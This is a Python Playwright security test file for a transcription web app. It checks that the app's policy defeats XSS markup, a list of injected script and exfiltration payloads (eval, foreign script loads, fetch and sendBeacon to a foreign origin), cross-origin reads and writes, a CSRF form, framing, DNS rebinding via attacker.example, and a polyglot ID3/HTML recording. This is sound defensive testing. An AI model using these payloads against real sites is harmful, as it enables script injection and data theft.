"""The page against hostile texts, files and pages, in a real browser with the real policy."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from api.http.door import DoorSettings
from tests.ui import transcripts
from tests.ui.browser import CLIPS, Visitor, Watch
from tests.ui.scripted import ScriptedHome

MARKUP = transcripts.MARKUP


HARM = "img[src=x], [onerror], main script, main a[href^=javascript]"
"""What the markup in the texts would become."""


def is_unharmed(page: Page) -> bool:
    """True if no markup of a text became an element, and no script of it ran."""
    return page.title() != "hacked" and page.locator(HARM).count() == 0


def named_like_markup(folder: Path) -> Path:
    path = folder / f"{MARKUP.replace('/', '')}.ogg"
    path.write_bytes((CLIPS / "long.ogg").read_bytes())
    return path


@pytest.fixture
def hostile(scripted: ScriptedHome, visitor: Visitor, tmp_path: Path) -> str:
    """A transcript whose every text is markup: its id."""
    answer = transcripts.hostile()
    answer["metadata"]["warnings"] = [MARKUP]
    scripted.use(answer=answer)
    transcript = visitor.transcribe(named_like_markup(tmp_path), MARKUP)
    names = {"editor": "e", "speakers": {"SPEAKER_00": MARKUP, "SPEAKER_01": f"</b>{MARKUP}"}}
    visitor.ask("PATCH", f"transcripts/{transcript}", names)
    return transcript


def test_hostile_texts_stay_texts_in_the_list(page: Page, scripted: ScriptedHome, hostile: str) -> None:
    page.goto(scripted.url)
    expect(page.get_by_role("main").get_by_text(MARKUP).first).to_be_visible()
    assert is_unharmed(page)


def test_hostile_texts_stay_texts_in_the_editor(page: Page, scripted: ScriptedHome, hostile: str) -> None:
    page.goto(f"{scripted.url}#/t/{hostile}")
    lines = page.get_by_role("list", name="Transcript")
    expect(lines.get_by_text(MARKUP).first).to_be_visible()
    assert is_unharmed(page)
    page.keyboard.press("ControlOrMeta+f")
    page.keyboard.insert_text("onerror")
    expect(page.get_by_text(re.compile("match"))).to_be_visible()
    assert is_unharmed(page)


def test_a_hostile_error_stays_a_text(page: Page, scripted: ScriptedHome, visitor: Visitor) -> None:
    scripted.use(answer=transcripts.failure("InvalidInput", f"vad_threshold: {MARKUP}"))
    transcript = visitor.begin(title=MARKUP)
    visitor.wait_for(transcript, ["failed"])
    for address in ("", f"#/t/{transcript}"):
        page.goto(f"{scripted.url}{address}")
        expect(page.get_by_role("main").get_by_text(MARKUP).first).to_be_visible()
        assert is_unharmed(page)
        page.goto("about:blank")


def test_a_hostile_address_of_a_view_stays_a_text(page: Page, scripted: ScriptedHome, watch: Watch) -> None:
    watch.allowed.append("status of 404")
    page.goto(f"{scripted.url}#/t/{MARKUP}/{MARKUP}")
    expect(page.get_by_role("heading", name="This transcript does not exist.")).to_be_visible()
    assert is_unharmed(page)


INJECTED = """(FOREIGN) => {
    const add = (tag, properties) => {
        const made = Object.assign(document.createElement(tag), properties);
        document.body.append(made);
        return made;
    };
    setTimeout(() => { ATTACK }, 0);
}"""
"""Not run at once: what the test itself runs is above the policy."""


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.innerHTML = '<img src=x onerror=window.hacked=1>'",
        "document.body.insertAdjacentHTML('beforeend', '<script>window.hacked=1</script>')",
        "add('script', {textContent: 'window.hacked=1'})",
        "add('script', {src: FOREIGN + 'attack.js'})",
        "add('script', {src: 'data:text/javascript,window.hacked=1'})",
        "{ const made = add('button', {}); made.setAttribute('onclick', 'window.hacked=1'); made.click() }",
        "add('a', {href: 'javascript:window.hacked=1'}).click()",
        "add('iframe', {src: FOREIGN})",
        "add('iframe', {src: 'javascript:parent.hacked=1'})",
        "{ add('base', {href: FOREIGN}); window.hacked = document.baseURI === FOREIGN }",
        "add('form', {action: FOREIGN}).submit()",
        "add('style', {textContent: `@import url(${FOREIGN}a.css)`})",
        "add('link', {rel: 'stylesheet', href: FOREIGN})",
        "add('object', {data: FOREIGN})",
        "add('embed', {src: FOREIGN})",
        "add('img', {src: FOREIGN + 'text.png'})",
        "eval('window.hacked=1')",
        "new Function('window.hacked=1')()",
        "setTimeout('window.hacked=1', 0)",
        "import(FOREIGN + 'attack.js')",
        "new Worker('data:text/javascript,0')",
        "fetch(FOREIGN)",
        "navigator.sendBeacon(FOREIGN, 'text')",
        "new WebSocket(FOREIGN.replace('http', 'ws'))",
        "new EventSource(FOREIGN)",
        "window.hacked = trustedTypes.createPolicy('mine', {createHTML: (text) => text})",
    ],
)
def test_what_is_injected_does_not_run_and_sends_nothing_out(
    page: Page, scripted: ScriptedHome, watch: Watch, attack: str
) -> None:
    watch.allowed.append("")
    with foreign_site() as foreign:
        page.goto(scripted.url)
        expect(page.get_by_role("main")).not_to_be_empty()
        page.evaluate(INJECTED.replace("ATTACK", attack), foreign.url)
        page.wait_for_timeout(150)
        assert not page.evaluate("window.hacked")
        assert foreign.requests == []
        assert page.url == scripted.url
    watch.elsewhere.clear()


@dataclass
class ForeignSite:
    """A site of somebody else's, on another port of the same host: cookies are the same for both.

    Attributes:
        html: of all its pages.
        requests: the paths that it was asked for.
    """

    port: int
    html: str = "<!doctype html><title>Foreign</title>"
    requests: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/"


@contextmanager
def foreign_site() -> Iterator[ForeignSite]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path != "/favicon.ico":
                site.requests.append(self.path)
            kind = "text/javascript" if self.path.endswith(".js") else "text/html"
            body = b"window.hacked=1" if kind == "text/javascript" else site.html.encode()
            self.send_response(200)
            self.send_header("content-type", kind)
            self.send_header("access-control-allow-origin", "*")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            return

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        site = ForeignSite(server.server_port)
        thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        try:
            yield site
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture
def foreign() -> Iterator[ForeignSite]:
    with foreign_site() as site:
        yield site


READS = """async ({page, transcript}) => {
    const read = {};
    const paths = ["page/api/session", "page/api/transcripts", `page/api/transcripts/${transcript}`,
        `page/api/transcripts/${transcript}/document`, `page/api/transcripts/${transcript}/media`, "page/api/events"];
    for (const path of paths) {
        for (const mode of ["cors", "no-cors"]) {
            for (const headers of [{}, {"x-requested-by": "page"}]) {
                const name = `${mode} ${path} ${Object.keys(headers)}`;
                try {
                    const answer = await fetch(page + path, {mode, headers, credentials: "include"});
                    read[name] = (await answer.text()) || answer.type;
                } catch { read[name] = "refused"; }
            }
        }
    }
    return read;
}"""

TAGS = """async ({page, transcript}) => {
    const load = (tag, path) => new Promise((resolve) => {
        const made = document.createElement(tag);
        made.onload = made.onloadedmetadata = () => resolve("loaded");
        made.onerror = () => resolve("refused");
        made[tag === "link" ? "href" : "src"] = page + path;
        if (tag === "link") made.rel = "stylesheet";
        document.body.append(made);
    });
    const path = `page/api/transcripts/${transcript}`;
    return Object.fromEntries(await Promise.all([["script", path], ["script", "page/api/transcripts"],
        ["script", "page/static/scripts/main.js"], ["link", "page/static/styles/base.css"],
        ["img", "page/static/favicon.svg"], ["audio", `${path}/media`], ["video", `${path}/media`],
        ["video", "page/api/transcripts/AAAAAAAAAAAAAAAA/media"],
    ].map(async ([tag, path]) => [`${tag} ${path}`, await load(tag, path)])));
}"""

WRITES = """async ({page, transcript}) => {
    const done = {};
    const send = async (method, path, body, headers) => {
        for (const mode of ["cors", "no-cors"]) {
            try {
                const answer = await fetch(page + path, {method, body, headers, mode, credentials: "include"});
                done[`${mode} ${method} ${path}`] = answer.type;
            } catch { done[`${mode} ${method} ${path}`] = "refused"; }
        }
    };
    const job = JSON.stringify({url: "https://example.org/a.mp3"});
    await send("POST", "page/api/transcripts", job, {"content-type": "text/plain"});
    await send("POST", "page/api/transcripts", job, {"content-type": "application/json", "x-requested-by": "page"});
    await send("POST", `page/api/transcripts/${transcript}/retry`, "{}", {"content-type": "text/plain"});
    await send("POST", "page/api/uploads", "{}", {"content-type": "text/plain"});
    await send("PATCH", `page/api/transcripts/${transcript}`, '{"title": "hacked"}', {});
    await send("DELETE", `page/api/transcripts/${transcript}`, undefined, {});
    await send("DELETE", "page/api/session", undefined, {});
    navigator.sendBeacon(page + "page/api/transcripts", job);
    return done;
}"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_foreign_page_can_neither_read_nor_change_nor_start(
    page: Page, scripted: ScriptedHome, visitor: Visitor, watch: Watch, foreign: ForeignSite, host: str
) -> None:
    watch.allowed.append("")
    transcript = visitor.transcribe(title="Private talk")
    before = visitor.ask("GET", "transcripts")
    jobs = len(scripted.transcriber.jobs)
    known = {"page": scripted.url, "transcript": transcript}
    page.goto(foreign.url.replace("127.0.0.1", host))
    read = page.evaluate(READS, known)
    assert set(read.values()) <= {"refused", "opaque"}, read
    tags = page.evaluate(TAGS, known)
    assert set(tags.values()) == {"refused"}, tags
    written = page.evaluate(WRITES, known)
    assert set(written.values()) <= {"refused", "opaque"}, written
    page.wait_for_timeout(200)
    assert len(scripted.transcriber.jobs) == jobs
    assert visitor.ask("GET", "transcripts") == before


def test_a_form_of_a_foreign_page_starts_nothing(
    page: Page, scripted: ScriptedHome, visitor: Visitor, watch: Watch, foreign: ForeignSite
) -> None:
    watch.allowed.append(r"status of 403|favicon\.ico")
    visitor.ask("GET", "session")
    foreign.html = (
        f"<form method=post enctype=text/plain action='{scripted.url}page/api/transcripts'>"
        '<input name=\'{"url": "https://example.org/a.mp3", "title": "\' value=\'"}\'><button>Win</button></form>'
    )
    page.goto(foreign.url)
    with page.expect_navigation() as sent:
        page.get_by_role("button").click()
    assert sent.value.status == 403
    assert visitor.ask("GET", "transcripts") == {"transcripts": []}


def test_a_foreign_page_can_neither_frame_the_page_nor_reach_its_window(
    page: Page, scripted: ScriptedHome, visitor: Visitor, watch: Watch, foreign: ForeignSite
) -> None:
    watch.allowed.append("")
    transcript = visitor.transcribe(title="Private talk")
    foreign.html = f"<iframe src='{scripted.url}'></iframe><iframe src='{scripted.url}page/api/transcripts'></iframe>"
    page.goto(foreign.url)
    page.wait_for_timeout(300)
    assert [frame.url for frame in page.frames[1:] if frame.url.startswith(scripted.url)] == []
    with page.context.expect_page() as opened:
        page.evaluate("address => { window.other = window.open(address) }", f"{scripted.url}#/t/{transcript}")
    expect(opened.value.get_by_role("list", name="Transcript")).to_be_visible()
    assert page.evaluate("window.other.closed"), "the page shares its window with who opened it"
    assert opened.value.evaluate("window.opener") is None


def test_a_name_that_was_made_to_point_here_is_refused(
    browser: Browser, scripted: ScriptedHome, visitor: Visitor
) -> None:
    visitor.transcribe(title="Private talk")
    rebound = browser.browser_type.launch(
        executable_path="/usr/bin/chromium",
        args=["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP attacker.example 127.0.0.1"],
    )
    try:
        page = rebound.new_page()
        page.goto(f"http://attacker.example:{scripted.port}/")
        expect(page.get_by_role("heading")).to_have_text(re.compile("answers at local addresses only"))
        for path in ("session", "transcripts", "events"):
            assert page.evaluate("async (path) => (await fetch(path)).status", f"page/api/{path}") == 403
    finally:
        rebound.close()


def test_another_visitor_sees_nothing(
    browser: Browser, page: Page, scripted: ScriptedHome, visitor: Visitor, watch: Watch
) -> None:
    transcript = visitor.transcribe(title="Private talk")
    page.goto(scripted.url)
    expect(page.get_by_text("Private talk")).to_be_visible()
    watch.allowed.append("status of 404")
    other = browser.new_context()
    watch.over(other)
    try:
        stranger = other.new_page()
        stranger.goto(scripted.url)
        expect(stranger.get_by_role("main")).not_to_be_empty()
        expect(stranger.get_by_text("Private talk")).to_have_count(0)
        stranger.goto(f"{scripted.url}#/t/{transcript}")
        expect(stranger.get_by_role("heading", name="This transcript does not exist.")).to_be_visible()
    finally:
        other.close()


@contextmanager
def locked_home(folder: Path, key: str, port: int = 0) -> Iterator[ScriptedHome]:
    home = ScriptedHome(folder, DoorSettings(api_keys=frozenset({key})), port)
    home.start()
    try:
        yield home
    finally:
        home.stop()


def test_a_server_with_a_key_asks_for_it_and_a_new_key_asks_again(page: Page, tmp_path: Path, watch: Watch) -> None:
    watch.allowed += ["status of 401", "ERR_CONNECTION_REFUSED"]  # while it is restarted
    password = page.get_by_label("Password", exact=True)
    with locked_home(tmp_path, "first-key") as home:
        page.goto(home.url)
        password.fill("a guess")
        password.press("Enter")
        expect(page.get_by_text("Wrong password.")).to_be_visible()
        password.fill("first-key")
        password.press("Enter")
        expect(page.get_by_role("button", name="Log out")).to_be_visible()
        Visitor(page.context, home.url).transcribe(title="Private talk")
        expect(page.get_by_text("Private talk")).to_be_visible()
        page.reload()
        expect(page.get_by_text("Private talk")).to_be_visible()
    with locked_home(tmp_path, "second-key", home.port):
        page.goto(home.url)
        page.reload()
        password.fill("second-key")
        expect(page.get_by_text("Private talk")).to_have_count(0)
        password.press("Enter")
        expect(page.get_by_text("Private talk")).to_be_visible()
        page.get_by_role("button", name="Log out").click()
        expect(password).to_be_visible()
        expect(page.get_by_text("Private talk")).to_have_count(0)


def test_a_recording_that_is_a_web_page_too_does_not_run(
    page: Page, context: BrowserContext, scripted: ScriptedHome, visitor: Visitor, tmp_path: Path, watch: Watch
) -> None:
    watch.allowed.append("")
    markup = b"<!doctype html><title>hacked</title><script>document.title='hacked'</script>"
    trap = tmp_path / "talk.html"
    trap.write_bytes(b"ID3\x03\0\0" + bytes([0, 0, 0, len(markup)]) + markup + (CLIPS / "numbers.mp3").read_bytes())
    transcript = visitor.transcribe(trap, "Trap")
    page.goto(scripted.url)
    opened = context.new_page()
    opened.goto(f"{scripted.url}page/api/transcripts/{transcript}/media")
    opened.wait_for_timeout(200)
    assert "hacked" not in opened.title()
    assert opened.locator("video, audio").count() == 1


def test_a_regular_expression_searches_under_the_policy(page: Page, scripted: ScriptedHome, visitor: Visitor) -> None:
    page.goto(f"{scripted.url}#/t/{visitor.transcribe()}")
    expect(page.get_by_role("list", name="Transcript")).to_be_visible()
    page.keyboard.press("ControlOrMeta+f")
    page.get_by_label("Regular expression").check()
    page.get_by_label("Find", exact=True).fill(r"G\w+d morning")
    expect(page.get_by_text("4 matches")).to_be_visible()
